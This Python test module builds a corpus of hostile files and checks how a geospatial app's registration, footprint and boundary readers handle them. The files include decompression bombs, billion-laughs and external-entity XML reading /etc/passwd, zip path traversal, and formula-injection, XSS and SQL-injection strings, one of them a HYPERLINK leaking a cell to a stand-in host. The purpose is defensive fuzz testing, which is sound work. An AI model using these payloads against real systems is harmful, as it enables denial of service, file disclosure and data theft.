"""A corpus of hostile files by category, generated in a folder, and the bounded worker.

``build_corpus(folder)`` writes every file and returns the cases (category, reader, path,
display name). ``python tests/hostile_corpus.py CASES.json`` reads each case with its
reader, one after the other, each under its own CPU budget (RLIMIT_CPU raised per case),
and prints one JSON line per case: ``ok`` (read, with a short summary), ``refused``
(an InputError: its message) or ``crash`` (any other exception). A case that exhausts
memory or CPU kills the worker; the caller sees which case was running.
"""

from __future__ import annotations

import json
import resource
import sys
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))

from tests import hostile  # noqa: E402
from tests.factories import registration_row, write_rows  # noqa: E402

NORCIA = ROOT / "data" / "footprints" / "italy_norcia_20161030_M6.5_ingv8863681_cont_mmi.json"
POLYGON = {
    "type": "Feature",
    "properties": {"zone": "High"},
    "geometry": {"type": "Polygon", "coordinates": [[[10, 0], [11, 0], [11, 1], [10, 1], [10, 0]]]},
}
PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "'); DROP TABLE records; --",
    "{{7*7}}${7*7}",
)


def _feature_collection(features: list[dict]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


def _polygon(label: object, ring: list) -> dict:
    return {
        "type": "Feature",
        "properties": {"zone": label},
        "geometry": {"type": "Polygon", "coordinates": [ring]},
    }


def _kml(name: str, coordinates: str = "10,0 11,0 11,1 10,1 10,0", doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<kml xmlns="http://www.opengis.net/kml/'
        f'2.2"><Document><Placemark><name>{name}</name><Polygon><outerBoundaryIs><LinearRing>'
        f"<coordinates>{coordinates}</coordinates></LinearRing></outerBoundaryIs></Polygon>"
        "</Placemark></Document></kml>"
    ).encode()


def write_xlsx(path: Path, rows: list[dict]) -> Path:
    """Write dict rows as a one-sheet workbook (openpyxl)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    header = list(dict.fromkeys(key for row in rows for key in row))
    sheet.append(header)
    for row in rows:
        sheet.append([row.get(key) for key in header])
    workbook.save(path)
    return path


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _valid_files(folder: Path) -> dict[str, list[Path]]:
    """One valid file per format, the seeds of truncation and garbage."""
    import polars as pl

    folder.mkdir(parents=True, exist_ok=True)
    rows = [registration_row(f"r{i}", latitude=str(42.7 + i * 0.001)) for i in range(50)]
    csv_path = write_rows(folder / "records.csv", rows)
    xlsx = folder / "records.xlsx"
    write_xlsx(xlsx, rows)
    parquet = folder / "records.parquet"
    pl.DataFrame(rows).write_parquet(parquet)
    geojson = folder / "zones.geojson"
    geojson.write_bytes(_feature_collection([POLYGON]))
    kml = folder / "zones.kml"
    kml.write_bytes(_kml("Zone A"))
    kmz = _zip(folder / "zones.kmz", {"doc.kml": _kml("Zone A")})
    contours = folder / "cont_mmi.json"
    contours.write_bytes(NORCIA.read_bytes())
    return {
        "registration": [csv_path, xlsx, parquet],
        "footprint": [geojson, kml, kmz, contours],
    }


def build_corpus(folder: Path) -> list[dict]:
    """Write the hostile corpus into ``folder``; return the cases to read."""
    cases: list[dict] = []

    def add(category: str, reader: str, path: Path, name: str | None = None) -> None:
        cases.append({"category": category, "reader": reader, "path": str(path), "name": name})

    valid = _valid_files(folder / "valid")
    _bombs(folder / "bombs", add)
    _truncated_and_garbage(folder / "broken", valid, add)
    _deep_nesting(folder / "deep", add)
    _huge_values(folder / "huge", add)
    _nan_coordinates(folder / "nan", add)
    _path_traversal(folder / "traversal", add)
    _encodings(folder / "encodings", add)
    _formula_and_html(folder / "payloads", add)
    return cases


def _bombs(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    for make, name in (
        (hostile.kmz_bomb, "zones.kmz"),
        (hostile.geojson_bomb, "zones.zip"),
        (hostile.contour_bomb, "cont_mmi.zip"),
    ):
        add("bombs", "footprint", make(folder / name, 300), name)
        add("bombs", "boundaries", folder / name)
    for make, name in (
        (hostile.xlsx_whitespace_bomb, "ws.xlsx"),
        (hostile.xlsx_inline_string_bomb, "inline.xlsx"),
    ):
        add("bombs", "registration", make(folder / name, 300))
    add("bombs", "registration", hostile.xlsx_shared_strings_bomb(folder / "sst.xlsx", 5_000_000))
    member = hostile.padded("doc.kml", hostile.KML_HEAD, b" ", 50, hostile.KML_TAIL)
    liar = hostile.Member(member.name, member.deflated, member.crc, member.size, 2_000)
    add("bombs", "footprint", hostile.write_zip(folder / "liar.kmz", [liar]))
    inner = hostile.write_zip(folder / "inner.zip", [member])
    add("bombs", "footprint", _zip(folder / "nested.zip", {"inner.zip": inner.read_bytes()}))
    many = {f"part_{i}.geojson": b"{}" for i in range(10_500)}
    add("bombs", "footprint", _zip(folder / "many.zip", many))


def _truncated_and_garbage(folder: Path, valid: dict, add) -> None:
    import random

    folder.mkdir(parents=True)
    rng = random.Random(14)
    for reader, paths in valid.items():
        for path in paths:
            data = path.read_bytes()
            for i, cut in enumerate((len(data) // 3, len(data) // 2, len(data) - 7)):
                broken = folder / f"cut{i}_{path.name}"
                broken.write_bytes(data[:cut])
                add("truncated/garbage", reader, broken)
            flipped = bytearray(data)
            for _ in range(20):
                flipped[rng.randrange(len(flipped))] = rng.randrange(256)
            noisy = folder / f"flipped_{path.name}"
            noisy.write_bytes(bytes(flipped))
            add("truncated/garbage", reader, noisy)
            garbage = folder / f"garbage_{path.name}"
            garbage.write_bytes(rng.randbytes(5000))
            add("truncated/garbage", reader, garbage)


def _deep_nesting(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    deep = folder / "deep.geojson"
    deep.write_text('{"type":"FeatureCollection","features":' + "[" * 200_000 + "]" * 200_000 + "}")
    add("deep nesting", "footprint", deep)
    add("deep nesting", "boundaries", deep)
    props = folder / "deep_props.geojson"
    nested = '{"a":' * 100_000 + "1" + "}" * 100_000
    props.write_text(_feature_collection([POLYGON]).decode().replace('"High"', nested))
    add("deep nesting", "footprint", props)
    folders = folder / "folders.kml"
    inner = _kml("A").decode().split("<Document>")[1].split("</Document>")[0]
    folders.write_text(
        '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        + "<Folder>" * 50_000
        + inner
        + "</Folder>" * 50_000
        + "</Document></kml>"
    )
    add("deep nesting", "footprint", folders)
    laughs = '<!DOCTYPE kml [<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9)
    )
    billion = folder / "laughs.kml"
    billion.write_bytes(_kml("&j;", doctype=laughs + "]>"))
    add("deep nesting", "footprint", billion)
    external = folder / "external.kml"
    external.write_bytes(
        _kml("&x;", doctype='<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    )
    add("deep nesting", "footprint", external)
    sheet = hostile.SHEET_HEAD.replace(
        b"<worksheet", laughs.replace("kml", "worksheet").encode() + b"]><worksheet", 1
    )
    sheet = sheet.replace(b'<?xml version="1.0" encoding="UTF-8"?>', b'<?xml version="1.0"?>')
    sheet += (
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>&j;</t></is></c></row>' + hostile.SHEET_TAIL
    )
    members = hostile._xlsx_members(hostile.deflated("xl/worksheets/sheet1.xml", sheet))
    add("deep nesting", "registration", hostile.write_zip(folder / "laughs.xlsx", members))


def _huge_values(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    rows = [
        registration_row("big_coords", latitude="1e308", longitude="-1e308"),
        registration_row("x" * 1_000_000),
        registration_row("family", family_members="1e300", age="99999999999999999999"),
        registration_row("long_nat", nationality="U" * 5_000_000),
    ]
    add("huge values", "registration", write_rows(folder / "huge.csv", rows))
    import polars as pl

    pl.DataFrame(rows).write_parquet(folder / "huge.parquet")
    add("huge values", "registration", folder / "huge.parquet")
    big = folder / "big_coords.geojson"
    ring = [[1e308, 0], [-1e308, 0], [0, 1e308], [1e308, 0]]
    big.write_bytes(_feature_collection([_polygon("A", ring)]))
    add("huge values", "footprint", big)
    add("huge values", "boundaries", big)
    label = folder / "huge_label.geojson"
    label.write_bytes(
        _feature_collection([_polygon("L" * 5_000_000, POLYGON["geometry"]["coordinates"][0])])
    )
    add("huge values", "footprint", label)
    count = folder / "many_vertices.geojson"
    ring = [[10 + i * 1e-6, 0] for i in range(300_000)] + [[10.3, 1], [10, 0]]
    count.write_bytes(_feature_collection([_polygon("A", ring)]))
    add("huge values", "footprint", count)


def _nan_coordinates(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    rows = [
        registration_row(f"n{i}", latitude=lat, longitude=lon)
        for i, (lat, lon) in enumerate(
            [
                ("NaN", "13"),
                ("42", "nan"),
                ("inf", "13"),
                ("42", "-Infinity"),
                ("", ""),
                ("1e-400", "0"),
            ]
        )
    ]
    add("NaN coordinates", "registration", write_rows(folder / "nan.csv", rows))
    import polars as pl

    frame = pl.DataFrame(rows).with_columns(
        pl.Series("latitude", [float("nan"), 42.0, float("inf"), 42.0, None, 0.0]),
        pl.Series("longitude", [13.0, float("nan"), 13.0, float("-inf"), None, 0.0]),
    )
    frame.write_parquet(folder / "nan.parquet")
    add("NaN coordinates", "registration", folder / "nan.parquet")
    for token in ("NaN", "Infinity", "-Infinity"):
        path = folder / f"{token.strip('-').lower()}{'_neg' if '-' in token else ''}.geojson"
        text = _feature_collection([POLYGON]).decode().replace("[11, 0]", f"[{token}, 0]", 1)
        path.write_text(text)
        add("NaN coordinates", "footprint", path)
        add("NaN coordinates", "boundaries", path)
    kml = folder / "nan.kml"
    kml.write_bytes(_kml("A", "10,0 nan,0 11,1 10,1 10,0"))
    add("NaN coordinates", "footprint", kml)
    shake = folder / "cont_mmi.json"
    doc = json.loads(NORCIA.read_text())
    doc["features"][0]["geometry"]["coordinates"][0][0] = [float("nan"), float("inf")]
    doc["features"][1]["properties"]["value"] = float("nan")
    shake.write_text(json.dumps(doc))
    add("NaN coordinates", "footprint", shake)


def _path_traversal(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    zone = _feature_collection([POLYGON])
    for i, name in enumerate(
        (
            "../../../../tmp/x.geojson",
            "/etc/x.geojson",
            "C:\\x.geojson",
            "a/../../x.geojson",
            "x.geojson\x00.txt",
        )
    ):
        path = folder / f"traversal_{i}.zip"
        try:
            _zip(path, {name: zone})
        except ValueError:
            continue
        add("path traversal", "footprint", path)
        add("path traversal", "boundaries", path)
    upload = folder / "upload.geojson"
    upload.write_bytes(zone)
    add("path traversal", "footprint", upload, "../../../../tmp/x.geojson")
    add("path traversal", "footprint", upload, "/etc/passwd")
    add("path traversal", "boundaries", upload, "../../../../tmp/x.geojson")


def _encodings(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    rows = [registration_row("é1", nationality="Côte d'Ivoire"), registration_row("ü2")]
    for encoding in ("utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "utf-8-sig"):
        path = write_rows(folder / f"{encoding}.csv", rows, encoding=encoding)
        add("wrong encodings", "registration", path)
    sjis = folder / "shift_jis.csv"
    sjis.write_bytes("record_id,国籍,latitude,longitude\n1,日本,42,13\n".encode("shift_jis"))
    add("wrong encodings", "registration", sjis)
    utf16 = folder / "zones.geojson"
    utf16.write_bytes(_feature_collection([POLYGON]).decode().encode("utf-16"))
    add("wrong encodings", "footprint", utf16)
    latin = folder / "latin.kml"
    latin.write_bytes(_kml("Zone é").decode().encode("latin-1"))
    add("wrong encodings", "footprint", latin)
    acled = folder / "acled.csv"
    acled.write_bytes(
        "event_date,event_type,latitude,longitude\n2020-01-01,Battles,9.0,7.5\n"
        "2020-01-02,Protests,9.1,7.6\n".encode("utf-16")
    )
    add("wrong encodings", "footprint", acled)
    latin_acled = folder / "acled_latin.csv"
    latin_acled.write_bytes(
        "event_date,event_type,latitude,longitude,location\n2020-01-01,Battles,9.0,7.5,Kanö\n".encode(
            "latin-1"
        )
    )
    add("wrong encodings", "footprint", latin_acled)


def _formula_and_html(folder: Path, add) -> None:
    folder.mkdir(parents=True)
    rows = [registration_row(p, source=p, nationality=p) for p in PAYLOADS]
    rows += [registration_row(f"ok{i}", source=p) for i, p in enumerate(PAYLOADS)]
    add("formula/HTML values", "registration", write_rows(folder / "payloads.csv", rows))

    write_xlsx(folder / "payloads.xlsx", rows)
    add("formula/HTML values", "registration", folder / "payloads.xlsx")
    features = [
        _polygon(p, [[10 + i, 0], [11 + i, 0], [11 + i, 1], [10 + i, 0]])
        for i, p in enumerate(PAYLOADS)
    ]
    geojson = folder / "<img src=x onerror=alert(1)>.geojson"
    geojson.write_bytes(_feature_collection(features))
    add("formula/HTML values", "footprint", geojson)
    add("formula/HTML values", "boundaries", geojson)
    kml = folder / "payloads.kml"
    kml.write_bytes(_kml("&lt;script&gt;alert(1)&lt;/script&gt;"))
    add("formula/HTML values", "footprint", kml)


# --------------------------------------------------------------------------- the worker


def read_case(case: dict) -> str:
    """Read one case with its reader; return a short summary of what was read."""
    path = Path(case["path"])
    if case["reader"] == "registration":
        from geo.io.registrations import iter_validated_batches, open_registration_file

        batches = list(iter_validated_batches(open_registration_file(path)))
        read = sum(b.rows_read for b in batches)
        accepted = sum(b.accepted.height for b in batches)
        rejected = sum(b.rejects.height for b in batches)
        assert accepted + rejected == read, (accepted, rejected, read)
        for batch in batches:
            check_accepted(batch.accepted)
        return f"{read} rows, {accepted} accepted"
    if case["reader"] == "footprint":
        from geo.io.footprints import read_footprint

        footprint = read_footprint(path, name=case.get("name"))
        bounds = footprint.classes.total_bounds
        assert all(abs(b) <= 360 for b in bounds), bounds
        return f"{len(footprint.classes)} classes"
    from geo.io.boundaries import read_boundaries

    return f"{len(read_boundaries(path, name=case.get('name')))} areas"


def check_accepted(accepted) -> None:
    """Assert what an accepted batch may never hold: control characters, impossible places."""
    assert not accepted["record_id"].str.contains(r"[\x00-\x1f\x7f]").any(), "control character"
    for column, most in (("latitude", 90), ("longitude", 180)):
        values = accepted[column]
        assert values.is_finite().all() and (values.abs() <= most).all(), column


def main(cases_file: str, cpu_per_case: int = 20) -> None:
    """Read every case, each under its own CPU budget; print one JSON line per case."""
    from geo.errors import InputError

    cases = json.loads(Path(cases_file).read_text())
    _, hard = resource.getrlimit(resource.RLIMIT_CPU)
    for index, case in enumerate(cases):
        usage = resource.getrusage(resource.RUSAGE_SELF)
        soft = int(usage.ru_utime + usage.ru_stime) + cpu_per_case
        resource.setrlimit(resource.RLIMIT_CPU, (soft if hard < 0 else min(soft, hard), hard))
        print(json.dumps({"start": index}), flush=True)
        try:
            outcome = {"outcome": "ok", "detail": read_case(case)}
        except InputError as exc:
            outcome = {"outcome": "refused", "detail": str(exc)}
        except Exception as exc:  # noqa: BLE001 - a crash is what the worker reports
            outcome = {"outcome": "crash", "detail": f"{type(exc).__name__}: {exc}"[:500]}
        status = Path("/proc/self/status").read_text()
        vm = {k: int(status.split(k + ":")[1].split()[0]) // 1024 for k in ("VmSize", "VmHWM")}
        print(json.dumps({"case": index, **outcome, **vm}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
